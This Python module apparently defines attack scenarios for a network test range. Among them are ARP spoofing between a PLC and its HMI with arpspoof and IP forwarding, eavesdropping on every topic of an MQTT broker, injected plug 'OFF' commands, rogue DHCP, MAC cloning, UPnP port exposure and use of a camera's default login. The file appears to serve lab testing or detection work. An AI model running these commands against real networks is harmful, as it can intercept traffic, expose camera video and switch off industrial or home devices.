"""Attacks on the network itself and on what its members trust: forged addresses, rogue servers, ways in and out.

References: arpspoof(8) (`-r`: both directions; SIGINT puts things right), sysctl(8), timeout(1).
"""

from wardline_range.real.plan import Program, RealAttack, Touch

_FORWARDS = ("net.ipv4.ip_forward=1", "net.ipv4.conf.all.send_redirects=0", "net.ipv4.conf.eth0.send_redirects=0")
_WEB, _PROXY, _SOAP, _BROKER, _VIDEO = 80, 8080, 5000, 1883, 554
_WAKER, _UNREACHABLE = 67, 3
"""Arpspoof finds a MAC address by having the system send an empty datagram to that port, which is refused."""
_WAYS = (22, 445, 3389, 5985)
_COMPUTERS = ("engineering-station", "building-station", "historian")

LATERAL_MOVEMENT = RealAttack(
    name="lateral-movement",
    title="Try the ways from one computer into three others",
    on="laptop",
    techniques=("T1021.002", "T1021.001", "T1021.004"),
    programs=(
        Program(
            module="attack_lateral_movement", arguments=tuple("{" + name.replace("-", "_") + "}" for name in _COMPUTERS)
        ),
    ),
    touches=tuple(Touch(name, "tcp", port) for name in _COMPUTERS for port in _WAYS),
    lasts_s=30,
    needs_hosts=_COMPUTERS,
)  # fmt: skip

ARP_SPOOFING = RealAttack(
    name="arp-spoofing",
    title="Stand between the PLC and its HMI",
    on="laptop",
    techniques=("T1557.002", "T0830"),
    programs=(
        Program(tool="sysctl", arguments=("-w", *_FORWARDS)),
        Program(
            tool="timeout",
            arguments=("-s", "INT", "20", "arpspoof", "-i", "eth0", "-t", "{plc}", "-r", "{hmi}"),
            needs_tools=("arpspoof",),
        ),
        Program(tool="sysctl", arguments=("-w", "net.ipv4.ip_forward=0")),
    ),
    touches=tuple(
        Touch(name, proto, port)
        for name in ("plc", "hmi")
        for proto, port in (("arp", 0), ("udp", _WAKER), ("icmp", _UNREACHABLE))
    ),
    lasts_s=35,
    needs_hosts=("plc", "hmi"),
)

ROGUE_DHCP = RealAttack(
    name="rogue-dhcp",
    title="Give out addresses beside the gateway",
    on="laptop",
    techniques=("T1557.003",),
    programs=(Program(module="attack_rogue_dhcp", arguments=("--ip", "{ip}", "--first", "10.77.0.224")),),
    touches=(Touch(proto="udp", port=67),),
    lasts_s=30,
)

CLONED_MAC = RealAttack(
    name="cloned-mac",
    title="Speak under the printer's MAC address",
    on="laptop",
    techniques=("T1036",),
    programs=(
        Program(
            module="attack_cloned_mac",
            arguments=("--ip", "{ip}", "--victim", "{printer}", "--to", "{outside}:8080", "{camera_2}:80"),
        ),
    ),
    touches=(Touch("internet", "tcp", _PROXY), Touch("camera-2", "tcp", _WEB), Touch("printer", "arp")),
    lasts_s=30,
    needs_hosts=("internet", "printer", "camera-2"),
)

UPNP_PORT_MAPPING = RealAttack(
    name="upnp-port-mapping",
    title="Have the gateway lead ports of the Internet to the camera",
    on="camera-1",
    techniques=("T1133", "T1090"),
    programs=(Program(module="attack_port_mapping", arguments=("--gateway", "{gateway}", "--client", "{ip}")),),
    touches=(Touch("gateway", "tcp", _SOAP),),
    lasts_s=20,
)

CAMERA_NEW_VIEWER = RealAttack(
    name="camera-new-viewer",
    title="Watch the camera's video with the login it came with",
    on="laptop",
    techniques=("T1078",),
    programs=(Program(module="attack_viewer", arguments=("--camera", "{camera_2}")),),
    touches=(Touch("camera-2", "tcp", _VIDEO),),
    lasts_s=25,
    needs_hosts=("camera-2",),
)

MQTT_WILDCARD = RealAttack(
    name="mqtt-wildcard",
    title="Listen to every topic of the hub's broker",
    on="laptop",
    techniques=("T1040", "T0802"),
    programs=(
        Program(
            tool="mosquitto_sub", arguments=("-h", "{hub}", "-i", "monitor", "-t", "#", "-t", "$SYS/#", "-W", "25")
        ),
    ),
    touches=(Touch("hub", "tcp", _BROKER),),
    lasts_s=30,
    needs_hosts=("hub",),
)

MQTT_INJECTION = RealAttack(
    name="mqtt-injection",
    title="Switch a plug through the broker, in the hub's place",
    on="laptop",
    techniques=("T0855", "T1565.002"),
    programs=(
        Program(
            tool="mosquitto_pub",
            arguments=("-h", "{hub}", "-i", "remote", "-t", "cmnd/plug/POWER", "-m", "OFF",
                       "--repeat", "12", "--repeat-delay", "1.5"),
        ),
    ),
    touches=(Touch("hub", "tcp", _BROKER),),
    lasts_s=25,
    needs_hosts=("hub",),
)  # fmt: skip

ATTACKS = (
    LATERAL_MOVEMENT, ARP_SPOOFING, ROGUE_DHCP, CLONED_MAC, UPNP_PORT_MAPPING, CAMERA_NEW_VIEWER, MQTT_WILDCARD,
    MQTT_INJECTION,
)  # fmt: skip
